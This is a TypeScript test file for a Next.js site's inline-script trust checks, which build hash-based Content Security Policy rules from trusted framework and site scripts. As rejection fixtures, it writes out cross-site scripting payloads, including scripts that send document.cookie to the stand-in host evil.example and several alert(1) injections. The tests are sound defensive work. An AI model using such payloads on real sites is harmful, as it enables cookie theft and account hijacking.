import { createRequire } from 'node:module'
import { PassThrough } from 'node:stream'
import { describe, expect, it } from 'vitest'
import { isTrustedScript, nextFixedScriptHashes, reactRuntimePieces, type ScriptTrust, sha256 } from './inline-scripts'
import { inlineScriptHashes } from './security-headers'

const trust: ScriptTrust = { siteHashes: new Set([sha256('console.log("the site")')]), reactRuntime: reactRuntimePieces() }
const trusted = (body: string) => isTrustedScript(body, sha256(body), trust)

/** A page rendered by the React DOM server Next.js uses, with a boundary that resolves after the shell. */
async function streamedPage(): Promise<string> {
  const require = createRequire(import.meta.url)
  const React = require('next/dist/compiled/react') as typeof import('react')
  const { renderToPipeableStream } = require('next/dist/compiled/react-dom/server.node') as typeof import('react-dom/server')
  let resolve = () => {}
  const later = new Promise<void>((r) => (resolve = r))
  let done = false
  function Late() {
    if (!done) throw later.then(() => (done = true))
    return React.createElement('p', null, 'later')
  }
  const tree = React.createElement('html', null, React.createElement('body', null, React.createElement(React.Suspense, { fallback: 'waiting' }, React.createElement(Late))))
  return new Promise((finish, fail) => {
    const chunks: Buffer[] = []
    const out = new PassThrough()
    out.on('data', (c: Buffer) => chunks.push(c))
    out.on('end', () => finish(Buffer.concat(chunks).toString('utf8')))
    const stream = renderToPipeableStream(tree, { onShellReady: () => (stream.pipe(out), setTimeout(resolve, 5)), onError: fail })
  })
}

describe('the inline scripts a page may run', () => {
  it("trusts Next.js's data, whose arguments are JSON", () => {
    expect(trusted('self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])')).toBe(true)
    expect(trusted('(self.__next_f=self.__next_f||[]).push([0])')).toBe(true)
    expect(trusted('(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"]})')).toBe(true)
    // After a form's server action: the start of the stream and the form's state in one script,
    // with a `)` and what looks like a call inside the echoed text.
    expect(trusted('(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([2,[{"status":"error","values":{"description":"a (b);self.__next_f.push(x)"}}]])')).toBe(true)
  })

  it('refuses code dressed as data', () => {
    expect(trusted('self.__next_f.push([1,"x"]);alert(document.cookie)')).toBe(false)
    expect(trusted('self.__next_f.push([1,"x"],alert(1))')).toBe(false)
    expect(trusted('self.__next_f.push(alert(1))')).toBe(false)
    expect(trusted('(self.__next_f=self.__next_f||[]).push([0]);alert(1)')).toBe(false)
    expect(trusted('self.__next_f.push([0]);self.__next_f.push([1,"x"]);fetch("//evil.example")')).toBe(false)
    expect(trusted('alert(1)')).toBe(false)
  })

  it("trusts every script React's streaming renderer writes, and not its names reused for other code", async () => {
    const html = await streamedPage()
    const scripts = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]!)
    expect(scripts.some((body) => body.includes('$RC'))).toBe(true)
    for (const body of scripts) expect(trusted(body), body).toBe(true)
    expect(trusted('$RC=function(a,b){fetch("//evil.example?"+document.cookie)};$RC("B:0","S:0")')).toBe(false)
    expect(trusted('$RC("B:0","S:0");alert(1)')).toBe(false)
    expect(trusted('$RC("B:0",alert(1))')).toBe(false)
  })

  it("trusts the site's own scripts by the hashes its build recorded", () => {
    expect(trusted('console.log("the site")')).toBe(true)
    expect(trusted('console.log("the site") ')).toBe(false)
  })

  it('leaves a script injected into a page out of its policy, and counts it', () => {
    const page = `<html><head><script>console.log("the site")</script><script src="/_next/a.js" async=""></script>
      <script type="application/ld+json">{"@type":"WebPage"}</script></head>
      <body><h1>Post</h1><script>fetch("//evil.example/?c="+document.cookie)</script><script>self.__next_f.push([1,"</scr"])</script></body></html>`
    const { hashes, untrusted } = inlineScriptHashes(page, trust)
    expect(hashes.sort()).toEqual([sha256('console.log("the site")'), sha256('self.__next_f.push([1,"</scr"])')].sort())
    expect(untrusted).toBe(1)
  })
})

describe("Next.js's fixed icon script", () => {
  it('is allowed exactly as Next.js writes it when metadata streams after the shell, and nothing like it', () => {
    const icons = `document.querySelectorAll('body link[rel="icon"], body link[rel="apple-touch-icon"]').forEach(el => document.head.appendChild(el))`
    expect(nextFixedScriptHashes()).toEqual([sha256(icons)])
    const withNext: ScriptTrust = { siteHashes: new Set(nextFixedScriptHashes()), reactRuntime: [] }
    expect(isTrustedScript(icons, sha256(icons), withNext)).toBe(true)
    const altered = `${icons};fetch('https://evil.example')`
    expect(isTrustedScript(altered, sha256(altered), withNext)).toBe(false)
  })
})
